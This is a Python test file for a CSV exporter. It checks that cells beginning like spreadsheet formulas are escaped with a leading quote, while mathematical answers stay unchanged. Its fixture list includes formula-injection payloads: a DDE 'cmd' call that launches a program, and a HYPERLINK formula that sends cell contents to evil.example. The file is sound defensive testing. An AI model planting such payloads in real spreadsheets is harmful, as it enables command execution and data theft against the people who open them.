"""Text of models that a spreadsheet would run as a formula."""

import csv

import pytest

from trace_of_thought.experiments.exchange.flat_rows import COLUMNS, WRITERS

FORMULAS = [
    "=1+1",
    "@SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example/?"&A1)',
    "\t=1",
    "\r\n=1",
    " =1",
    "＝1",
]
MATHEMATICS = ["-4", "+4", "-4.5e3", "- 3x + 2", "-\\frac{1}{2}", "4 = 4", "a@b", "", "'", "1. Add.\n=4"]


def written(text, tmp_path):
    WRITERS["csv"]([{name: [text] if name == "steps" else text for name in COLUMNS}], tmp_path / "rows.csv")
    with open(tmp_path / "rows.csv", encoding="utf-8", newline="") as file:
        return next(csv.DictReader(file))["answer"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_disarmed(text, tmp_path):
    assert written(text, tmp_path) == "'" + text


@pytest.mark.parametrize("text", MATHEMATICS)
def test_mathematics_stays_as_it_is(text, tmp_path):
    assert written(text, tmp_path) == text
